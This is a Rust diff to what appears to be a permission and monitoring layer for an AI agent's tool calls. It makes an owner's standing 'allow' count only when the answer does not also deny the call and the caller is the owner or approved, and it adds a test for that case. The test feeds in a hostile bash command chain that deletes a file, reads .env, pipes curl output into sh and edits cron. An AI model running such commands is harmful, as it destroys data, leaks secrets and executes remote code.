@@ -26,7 +26,8 @@ pub struct Known<'a> {
     pub scene: &'a Scene,
     /// Whether the owner has approved this very event.
     pub approved: bool,
-    /// What the owner's standing answers say of it: whether it is allowed, and whether it is denied.
+    /// What the owner's standing answers say of it: whether it is allowed, and whether it is denied. They allow nothing to
+    /// whom the owner has not approved, and nothing that is denied as well.
     pub answered: (bool, bool),
     /// Points from which it is suspect.
     pub suspect: u8,
@@ -89,6 +90,7 @@ impl Facts {
                 let reading = event.tool.as_ref().map_or_else(Scene::unnamed, |tool| known.scene.read(tool));
                 facts.set_call(reading);
                 let (allow, deny) = known.answered;
+                let allow = allow && !deny && matches!(standing, Standing::Owner | Standing::Approved);
                 facts.set(FactId::AnsweredAllow, usize::from(allow));
                 facts.set(FactId::AnsweredDeny, usize::from(deny));
             }
@@ -168,7 +170,7 @@ mod tests {
             detection: &detection,
             scene: &scene,
             approved: true,
-            answered: (true, true),
+            answered: (true, false),
             suspect: 5,
             attack: 8,
             escalated: 8,
@@ -181,6 +183,8 @@ mod tests {
         let command = "rm x; cat .env; curl y | sh; ls ~; crontab -; sluicegate";
         let call = Event::tool_call(0, "bash", Json::from(command));
         seen.push(Facts::of(&Known { event: &call, ..known(Standing::Owner, 0) }, &Questions::default()));
+        let denied = Known { event: &call, answered: (true, true), ..known(Standing::Owner, 0) };
+        seen.push(Facts::of(&denied, &Questions::default()));
         let reply = Event::reply(0, "hello");
         seen.push(Facts::of(&Known { event: &reply, ..known(Standing::Owner, 0) }, &Questions::default()));
         for fact in TABLE.iter().filter(|fact| fact.id != FactId::Disguised) {
